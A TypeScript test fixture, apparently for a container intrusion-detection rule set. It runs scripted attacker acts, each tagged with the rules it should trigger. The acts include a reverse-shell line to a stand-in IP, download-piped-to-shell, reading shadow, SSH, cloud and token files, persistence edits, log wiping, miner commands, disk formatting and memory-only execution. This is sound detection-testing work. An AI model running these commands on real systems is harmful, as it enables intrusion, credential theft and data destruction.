/**
 * Acts of an intruder, done for real in a container that has no more rights than others: each line of the script is one act
 * and names the rules of the standard set that it must fire. Many of them fail in such a container; trying is what counts. Applets whose name a rule
 * reads from the process go by their path: given the bare name, this shell runs itself anew, as `exe`.
 */
import { compileStatic } from './static-program.js'

export interface IntruderAct {
  readonly command: string
  /** Rules of the standard set. */
  readonly fires: readonly string[]
}

/** intrude ACT: calls that no applet of busybox makes. */
const INTRUDE = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

/* A copy of busybox that lies in memory only runs \`true\`. */
static int run_from_memory(void)
{
	static char block[65536];
	char *words[] = {"true", 0};
	int memory = memfd_create("held", MFD_CLOEXEC), file = open("/bin/busybox", O_RDONLY);
	if (memory < 0 || file < 0) return 1;
	for (ssize_t count; (count = read(file, block, sizeof(block))) > 0;)
		if (write(memory, block, count) != count) return 1;
	return syscall(SYS_execveat, memory, "", words, environ, AT_EMPTY_PATH) < 0;
}

static int trace_child(void)
{
	pid_t child = fork();
	if (child == 0) for (;;) pause();
	if (ptrace(PTRACE_ATTACH, child, 0, 0) == 0) waitpid(child, 0, 0);
	kill(child, SIGKILL);
	return waitpid(child, 0, 0) != child;
}

int main(int count, char **values)
{
	char byte = 0;
	struct iovec own = {&byte, 1};
	const char *act = count > 1 ? values[1] : "";

	/* Arguments that the kernel refuses: nothing here may reach the machine. */
	if (!strcmp(act, "reboot")) return syscall(SYS_reboot, 0, 0, 0, 0) == 0;
	if (!strcmp(act, "module")) return syscall(SYS_finit_module, -1, "", 0) == 0;
	if (!strcmp(act, "handle")) return syscall(SYS_open_by_handle_at, -1, 0, 0) == 0;
	if (!strcmp(act, "ports")) return syscall(SYS_iopl, 4) == 0;
	if (!strcmp(act, "bpf")) return syscall(SYS_bpf, -1, 0, 0) == 0;
	if (!strcmp(act, "faults")) return syscall(SYS_userfaultfd, -1) >= 0;
	if (!strcmp(act, "poke")) return syscall(SYS_process_vm_writev, getpid(), &own, 1, &own, 1, 0) < 0;
	if (!strcmp(act, "trace")) return trace_child();
	if (!strcmp(act, "memory")) return run_from_memory();
	if (!strcmp(act, "thread")) return execl("/usr/bin/app", "[kworker/0:1]", (char *)0);
	if (!strcmp(act, "packet")) return socket(AF_PACKET, SOCK_RAW, 0) < 0;
	fprintf(stderr, "no act %s\\n", act);
	return 2;
}
`

/** Programs that are there by name alone: what runs is busybox, which knows no such applet; the exec is real. */
const NAMES = [
  ...[
    'usr/bin/kubectl',
    'usr/bin/deepce.sh',
    'sbin/apk',
    'usr/sbin/sshd',
    'usr/bin/nmap',
    'usr/bin/tcpdump',
    'usr/bin/ssh',
  ],
  ...['usr/bin/chisel', 'usr/bin/gcore', 'usr/bin/xmrig', 'usr/bin/hping3', 'usr/bin/sudo', 'usr/sbin/useradd'],
  ...['sbin/mkfs.ext4', 'usr/bin/chattr', 'usr/bin/python3', 'sbin/iptables', 'usr/bin/app', 'run/shm/tool'],
]

/** A server of the edge that was taken over: it starts what it never starts. */
const TAKEN_OVER = `#!/bin/sh
/bin/sh -c 'exit 0'
/bin/id
exit 0
`

export async function intruderImage(
  dir: string,
): Promise<{ files: Record<string, string>; copies: Record<string, string> }> {
  const named = await compileStatic(dir, 'named', 'int main(void) { return 0; }')
  return {
    files: {
      'usr/sbin/nginx': TAKEN_OVER,
      'etc/shadow': 'root:*:1:0:::::\n',
      'root/.ssh/id_ed25519': 'key\n',
      'root/.ssh/authorized_keys': '',
      'root/.aws/credentials': '[default]\n',
      'root/.bash_history': 'ls\n',
      'var/log/auth.log': 'login\n',
      'run/secrets/kubernetes.io/serviceaccount/token': 'token\n',
      'etc/cron.d/.keep': '',
      'etc/systemd/system/.keep': '',
      'etc/pam.d/sshd': '',
      'etc/falco/falco.yaml': '',
      'host/etc/cron.d/.keep': '',
      'root/.bashrc': '',
      'sys/fs/cgroup/x/.keep': '',
      'sys/kernel/mm/setting': '0',
      'srv/.keep': '',
      'mnt/.keep': '',
    },
    copies: {
      'usr/bin/intrude': await compileStatic(dir, 'intrude', INTRUDE),
      ...Object.fromEntries(NAMES.map((name) => [name, named])),
    },
  }
}

const act = (command: string, ...fires: readonly string[]): IntruderAct => ({ command, fires })

/** Rules that no act here can fire, and why. Each has its tests beside the policy. */
export const NOT_TRIED: Readonly<Record<string, string>> = {
  'interactive shell': 'needs a terminal, and the containers of the tests have none',
  'device of the host mounted': 'a mount is judged when it came to pass, and this container may not mount',
  'control files of the kernel mounted': 'the same',
}

export const INTRUDER_ACTS: readonly IntruderAct[] = [
  // execution
  act('nginx', 'shell started by a network server', 'network server looks around'),
  act('cp /bin/busybox /usr/local/tool && /usr/local/tool true', 'program that the image did not bring'),
  act('cp /bin/busybox /tmp/true && /tmp/true', 'program run from a temporary folder'),
  act('intrude memory', 'program run from memory alone'),
  act('/run/shm/tool', 'program run from shared memory'),
  act('kubectl auth can-i --list', 'client of a container engine or cluster', 'own permissions asked of the cluster'),
  act('deepce.sh', 'attack tool for containers'),
  act(
    '/bin/nc -l -p 31337 -e /bin/true & sleep 1; /bin/nc -w 1 127.0.0.1 31337 < /dev/null; sleep 1',
    'netcat or socat runs a program',
    'shell tied to a connection',
    'shell or tool listens for connections',
    'port of well-known back doors opened',
  ),
  act("sh -c ': bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", 'command line of a reverse shell'),
  act("sh -c 'wget -q -O - http://127.0.0.1:9/i | sh'", 'download piped into a shell'),
  act("sh -c 'echo OgoK | base64 -d | sh'", 'hidden command decoded and run'),
  act('apk add curl', 'package installed in a running container'),
  // persistence
  act('echo "* * * * * root id" > /etc/cron.d/job', 'cron table changed'),
  act('echo > /etc/systemd/system/back.service', 'service or start script changed'),
  act('echo key >> /root/.ssh/authorized_keys', 'login keys changed'),
  act('echo "x::0:0::/:/bin/sh" >> /etc/passwd', 'account file changed'),
  act('useradd -o -u 0 x', 'account made or changed'),
  act('echo /tmp/x.so > /etc/ld.so.preload; rm /etc/ld.so.preload', 'dynamic linker redirected'),
  act('LD_PRELOAD=/tmp/x.so /usr/bin/app', 'library preloaded from a writable folder'),
  act('echo >> /etc/pam.d/sshd', 'login modules changed'),
  act('echo >> /root/.bashrc', 'shell start file changed'),
  act('cp /bin/busybox /usr/bin/helper', 'program folder changed'),
  act('sshd -D', 'remote login service started'),
  // privilege escalation
  act('echo /x > /sys/fs/cgroup/x/release_agent', 'release agent of a cgroup set'),
  // harmless files of the names that count: the real ones are the machine's
  act('echo > /mnt/core_pattern', 'helper program of the kernel set'),
  act('echo 1 > /sys/kernel/mm/setting', 'kernel setting changed'),
  act('echo > /dev/mem', 'kernel memory or ports opened'),
  act('echo > /dev/sda1', 'raw disk opened'),
  act('intrude module', 'kernel module loaded or removed'),
  act('intrude reboot', 'new kernel or reboot asked for'),
  act('intrude handle', 'file opened by its handle'),
  act('intrude ports', 'hardware ports asked for'),
  act('intrude bpf', 'program loaded into the kernel'),
  act('intrude faults', 'page faults taken over'),
  act('intrude poke', 'memory of another process written'),
  act('intrude trace', 'another process traced'),
  act('nsenter -t 1 -m true', 'namespace of another process entered', 'namespace tool run'),
  act('unshare -U true', 'new user namespace'),
  act('chroot /host /bin/true', 'root changed to a mounted host'),
  act('echo > /host/etc/cron.d/job', 'files of the host changed'),
  act('touch /srv/helper; chmod 4755 /srv/helper', 'set-user-id bit set'),
  act('sudo -l', 'program for another identity run'),
  // credential access
  act('cat /etc/shadow', 'password hashes read'),
  act('cat /root/.ssh/id_ed25519', 'private key read'),
  act('cat /root/.aws/credentials', 'saved password or token read by a tool'),
  act('/bin/cat /run/secrets/kubernetes.io/serviceaccount/token', 'token of the pod read by a tool'),
  act('/bin/cat /proc/1/environ', 'environment of another process read by a tool'),
  act('gcore 1', 'memory of a process read for secrets'),
  act('/bin/nc -w 1 169.254.169.254 80', 'cloud metadata asked by a tool'),
  act('/bin/find /root -name id_rsa', 'search for keys and passwords'),
  // discovery
  act('nmap 10.0.0.0/24', 'network scanner run'),
  act('tcpdump -i any', 'network traffic recorded'),
  act('intrude packet', 'packet socket opened'),
  act('nc -w 1 10.0.0.5 2375', 'engine or kubelet interface contacted'),
  // lateral movement, command and control
  act('ssh root@10.0.0.7', 'SSH client run'),
  act('chisel client', 'tunnel or proxy tool run'),
  act('/bin/wget -q -O /tmp/x http://127.0.0.1:9/x', 'file fetched into a temporary folder'),
  act('touch /tmp/x; /bin/chmod 755 /tmp/x', 'file in a temporary folder made executable'),
  // defence evasion
  act('rm /var/log/auth.log', 'system log deleted'),
  act('rm /root/.bash_history', 'shell history deleted'),
  act('chattr +i /etc/passwd', 'file made unchangeable'),
  act('/bin/touch -r /bin/busybox /etc/passwd', 'time of a system file set'),
  act('/bin/killall -9 falco', 'protection switched off'),
  act('intrude thread', 'program with the face of a kernel thread'),
  act('echo > /etc/falco/falco.yaml', 'security agent disturbed'),
  // impact
  act('xmrig', 'miner run'),
  act('app -o stratum+tcp://pool.example:14444', 'command line of a miner'),
  act('nc -w 1 203.0.113.9 14444', 'port of mining pools contacted'),
  act('mkfs.ext4 /dev/sda1', 'disk wiped or formatted'),
  act('/bin/rm -rf /srv/data --no-preserve-root', 'whole trees deleted'),
  act('hping3 --flood 127.0.0.1', 'tool for overloading run'),
]
